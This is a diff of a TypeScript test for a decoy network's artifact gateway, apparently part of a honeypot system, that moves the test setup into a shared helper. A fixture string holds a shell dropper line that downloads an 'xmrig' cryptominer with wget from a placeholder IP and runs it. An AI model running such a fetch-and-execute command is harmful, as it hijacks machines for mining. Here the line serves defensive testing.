@@ -7,20 +7,11 @@ import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { networkInterfaces, tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { createDatabase, type DecnetDatabase, migrate } from '@decnet/db'
+import type { DecnetDatabase } from '@decnet/db'
 import { askGateway, type GatewayAddress, gatewayDownloader } from '@decnet/decoys'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import {
-  type ArtifactGateway,
-  artifactPaths,
-  createArtifactStore,
-  createFetcher,
-  deckyToken,
-  egressGuard,
-  gatewayKey,
-  MAX_ARTIFACT_BYTES,
-  startArtifactGateway,
-} from '../../src/index.ts'
+import { type ArtifactStore, createFetcher, egressGuard, MAX_ARTIFACT_BYTES } from '../../src/index.ts'
+import { startTestGateway, type TestGateway } from '../support/artifact-gateway.ts'
 
 const PAYLOAD = Buffer.from('#!/bin/sh\ncd /tmp; wget http://198.51.100.7/xmrig; chmod +x xmrig; ./xmrig\n')
 const HUNDRED_MB = 100 * 1024 * 1024
@@ -62,36 +53,29 @@ async function payloadServer(host: string, ownUrl = '') {
 
 describe('the artifact gateway', () => {
   const dataDir = mkdtempSync(join(tmpdir(), 'decnet-artifacts-'))
-  const paths = artifactPaths(dataDir)
-  const store = createArtifactStore(paths.storeDir)
+  let kept: TestGateway
+  let store: ArtifactStore
   let db: DecnetDatabase
-  let gateway: ArtifactGateway
   let lan: Awaited<ReturnType<typeof payloadServer>>
   let own: Awaited<ReturnType<typeof payloadServer>>
   let decky: GatewayAddress
 
   beforeAll(async () => {
-    const url = `file:${join(dataDir, 'decnet.db')}`
-    await migrate(url)
-    db = createDatabase(url)
     own = await payloadServer('127.0.0.1')
     lan = await payloadServer(lanAddress(), `${own.base}/payload.sh`)
-    gateway = await startArtifactGateway({
-      paths,
-      db,
-      store,
-      // This host's LAN address stands in for a server on the decky LAN; nothing else of ours is allowed.
-      fetcher: createFetcher({ store, guard: egressGuard({ allow: [lanAddress()] }), egress: true }),
-    })
-    decky = { socket: gateway.socket, decky: 'decky-01', token: deckyToken(gatewayKey(paths), 'decky-01') }
+    // This host's LAN address stands in for a server on the decky LAN; nothing else of ours is allowed.
+    kept = await startTestGateway(dataDir, (on) =>
+      createFetcher({ store: on, guard: egressGuard({ allow: [lanAddress()] }), egress: true }),
+    )
+    ;({ store, db } = kept)
+    decky = { socket: kept.gateway.socket, decky: 'decky-01', token: kept.tokenFor('decky-01') }
   })
   afterAll(async () => {
-    await gateway.close()
+    await kept.close()
     for (const { server } of [lan, own]) {
       server.closeAllConnections()
       server.close()
     }
-    await db.close()
     rmSync(dataDir, { recursive: true, force: true })
   })
 
